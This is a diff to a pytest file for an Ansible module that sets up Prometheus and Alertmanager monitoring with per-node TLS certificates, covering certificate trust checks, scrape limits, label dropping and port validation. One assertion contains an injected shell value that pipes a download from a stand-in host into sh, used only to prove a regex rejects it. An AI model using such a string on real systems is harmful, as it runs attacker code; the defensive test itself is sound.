@@ -9,24 +9,39 @@ import json
 import os
 import re
 import stat
-from collections.abc import Mapping, Sequence
+import subprocess
+import tempfile
+from collections.abc import Callable, Mapping, Sequence
 from dataclasses import dataclass, field, replace
+from functools import cache
 from pathlib import Path
 from typing import Any
 
 import pytest
 from ansible_collections.gaudi3.scale.plugins.module_utils._errors import GaudiError
 from ansible_collections.gaudi3.scale.plugins.module_utils._node.commands import CommandResult, run_process
+from ansible_collections.gaudi3.scale.plugins.module_utils._node.tls_identity import Identity, certificate_of, make
 from ansible_collections.gaudi3.scale.plugins.module_utils._prometheus.files import alertmanager
 from ansible_collections.gaudi3.scale.plugins.module_utils._prometheus.options import Options, Service, Webhook
 from ansible_collections.gaudi3.scale.plugins.module_utils._prometheus.state import converge
 
 PROMETHEUS, ALERTMANAGER = "prometheus.service", "prometheus-alertmanager.service"
-PEM = "-----BEGIN CERTIFICATE-----\n{}\n-----END CERTIFICATE-----\n"
+
+
+@cache
+def certificate(*names: str, again: int = 0) -> str:
+    """A node's own; ``again`` tells two of the same names apart."""
+    with tempfile.TemporaryDirectory(prefix=f"certificate-{again}-") as place:
+        made = Identity(place, names, grp.getgrgid(os.getegid()).gr_name)
+        make(made, run_process)
+        return certificate_of(made)
+
+
+ONE, TWO = certificate("gaudi-01", "10.0.0.11"), certificate("gaudi-02", "10.0.0.12")
 OPTIONS = Options(
     state="present",
     nodes={"gaudi-01": "10.0.0.11:9100", "gaudi-02": "10.0.0.12:9100"},
-    node_certificates={"gaudi-01": PEM.format("one"), "gaudi-02": PEM.format("two")},
+    node_certificates={"gaudi-01": ONE, "gaudi-02": TWO},
     rules={"gaudi_cards.yml": "groups: []\n"},
     retention="30d",
     address="127.0.0.1",
@@ -128,19 +143,89 @@ def test_the_vendors_exporter_is_read_beside_it_where_that_was_said(machine: Mac
 
 def test_a_run_over_some_nodes_forgets_no_other(machine: Machine) -> None:
     machine.run()
-    new = PEM.format("new")
+    new = certificate("gaudi-02", "10.0.0.12", again=1)
     machine.run(node_certificates={"gaudi-01": "", "gaudi-02": new})
-    assert machine.text("nodes.pem") == PEM.format("one") + new
+    assert machine.text("nodes.pem") == ONE + new
 
 
 def test_a_node_that_was_never_heard_is_named(machine: Machine) -> None:
-    assert machine.run(node_certificates={"gaudi-01": PEM.format("one")})["unknown"] == ["gaudi-02"]
+    assert machine.run(node_certificates={"gaudi-01": ONE})["unknown"] == ["gaudi-02"]
+
+
+def of_everyone(name: str) -> str:
+    """As a system's own configuration makes one: it may sign others."""
+    with tempfile.TemporaryDirectory() as place:
+        made = f"{place}/made.pem"
+        command = ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes"]
+        named = ["-subj", f"/CN={name}", "-addext", f"subjectAltName=DNS:{name}"]
+        subprocess.run([*command, *named, "-keyout", f"{place}/key.pem", "-out", made], check=True, capture_output=True)
+        return Path(made).read_text(encoding="ascii")
+
+
+@pytest.mark.parametrize(
+    ("told", "why"),
+    [
+        (lambda: certificate("gaudi-02", "gaudi-01"), "is for gaudi-01 as well"),
+        (lambda: certificate("gaudi-02", "10.0.0.11"), "is for 10.0.0.11 as well"),
+        (lambda: certificate("gaudi-03"), "is not for this node"),
+        (lambda: of_everyone("gaudi-02"), "may sign other certificates"),
+        (lambda: ONE + TWO, "is not one certificate in PEM"),
+        (lambda: "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n", "cannot be read by openssl"),
+        (lambda: "x" * 100_000, "is not one certificate in PEM"),
+    ],
+    ids=range(7),
+)
+def test_a_node_cannot_answer_for_another_one(machine: Machine, told: Callable[[], str], why: str) -> None:
+    done = machine.run(node_certificates={"gaudi-01": ONE, "gaudi-02": told()})
+    assert (done["unknown"], machine.text("nodes.pem")) == (["gaudi-02"], ONE)
+    (said,) = done["warnings"]
+    assert said.startswith(f"The certificate of gaudi-02 {why}, so what answers there is not believed")
+
+
+def test_what_was_believed_is_asked_again_where_a_node_came(machine: Machine) -> None:
+    wide = certificate("gaudi-02", "10.0.0.12", "gaudi-03")
+    assert not machine.run(node_certificates={"gaudi-01": ONE, "gaudi-02": wide})["unknown"]
+    more = {**OPTIONS.nodes, "gaudi-03": "10.0.0.13:9100"}
+    assert machine.run(nodes=more, node_certificates={})["unknown"] == ["gaudi-02", "gaudi-03"]
+
+
+def test_a_node_takes_no_alert_of_another_one_away(machine: Machine) -> None:
+    machine.run(vendor_port=41611)
+    for scraped in machine.document("prometheus.yml")["scrape_configs"]:
+        assert scraped["sample_limit"] and scraped["body_size_limit"] and scraped["label_limit"]
+        dropped = [one["regex"] for one in scraped["metric_relabel_configs"] if one["action"] == "labeldrop"]
+        assert all(re.fullmatch(dropped[0], label) for label in ("severity", "gaudi_action", "alertname"))
+    named, training, _labels = machine.document("prometheus.yml")["scrape_configs"][0]["metric_relabel_configs"]
+    for name in ("up", "ALERTS", "ALERTS_FOR_STATE", "training:gaudi_job_tokens_per_second:avg10m", "scrape_x"):
+        assert re.fullmatch(named["regex"], name)
+    assert not re.fullmatch(named["regex"], "gaudi_port_up")
+    assert all(re.fullmatch(training["regex"], name) for name in ("", "llama-3.1_8B"))
+    assert not re.fullmatch(training["regex"], "x; curl pirate.example | sh")
+
+
+def test_an_alert_is_taken_from_prometheus_alone(machine: Machine) -> None:
+    machine.run()
+    assert machine.document("alertmanager_web.yml")["tls_server_config"]["client_auth_type"] == (
+        "RequireAndVerifyClientCert"
+    )
+    (sent,) = machine.document("prometheus.yml")["alerting"]["alertmanagers"]
+    assert (sent["scheme"], sent["tls_config"]["server_name"]) == ("https", "monitoring")
+    unit = (machine.root / f"etc/systemd/system/{ALERTMANAGER}.d/gaudi3-scale.conf").read_text()
+    assert "--web.config.file=/etc/gaudi3_scale/monitoring/alertmanager_web.yml" in unit
+
+
+def test_where_webhooks_are_is_shown_to_nobody(machine: Machine) -> None:
+    done = machine.run(webhooks=(Webhook("https://chat.example.com/hooks/T0/of-our-own"),))
+    (kept,) = [path for path in machine.files if "of-our-own" in path.read_text()]
+    assert stat.S_IMODE(kept.stat().st_mode) == 0o640
+    assert "of-our-own" not in json.dumps(done)
+    assert f"file {kept}" in done["steps"]
 
 
 def test_a_node_that_went_is_believed_no_more(machine: Machine) -> None:
     machine.run()
     machine.run(nodes={"gaudi-01": "10.0.0.11:9100"}, node_certificates={})
-    assert machine.text("nodes.pem") == PEM.format("one")
+    assert machine.text("nodes.pem") == ONE
 
 
 def test_it_answers_itself_alone_and_has_no_password(machine: Machine) -> None:
@@ -219,6 +304,9 @@ def test_a_prometheus_of_the_site_is_not_taken_away(machine: Machine) -> None:
         ({"nodes": {"a": "10.0.0.11:9100", "b": "10.0.0.11:9100"}}, "nodes has a and b at one address"),
         ({"address": "0.0.0.0"}, "address is 0.0.0.0, which is every network"),
         ({"address": "10.0.0.2"}, "readers is empty, and everyone who reaches 10.0.0.2"),
+        ({"port": 0}, "port is 0, which is no port"),
+        ({"alertmanager_port": 70000}, "alertmanager_port is 70000, which is no port"),
+        ({"alertmanager_port": 9090}, "port and alertmanager_port are both 9090; give each one of its own"),
         ({"vendor_port": 70000}, "vendor_port is 70000; give the port of the vendor's exporter, or 0 for none"),
         ({"retention": "a month"}, "retention is 'a month'; give a time as Prometheus has it"),
         ({"rules": {"../x.yml": ""}}, "rules has a file '../x.yml'; call it gaudi_NAME.yml"),
@@ -239,3 +327,11 @@ def test_another_program_at_a_port_is_named(machine: Machine, port: int) -> None
     with pytest.raises(GaudiError, match=f"something answers at port {port} that is not"):
         machine.run()
     assert machine.files == []
+
+
+@pytest.mark.parametrize("given", ["--storage.tsdb.retention.time=90d", "--web.config.file=/etc/web.yml"])
+def test_what_would_be_given_twice_is_named(machine: Machine, given: str) -> None:
+    (machine.root / "etc/default").mkdir(parents=True)
+    (machine.root / "etc/default/prometheus").write_text(f'# --config.file\nARGS="{given}"\n')
+    with pytest.raises(GaudiError, match=f"has {given.partition('=')[0]}, which this module gives too"):
+        machine.run()
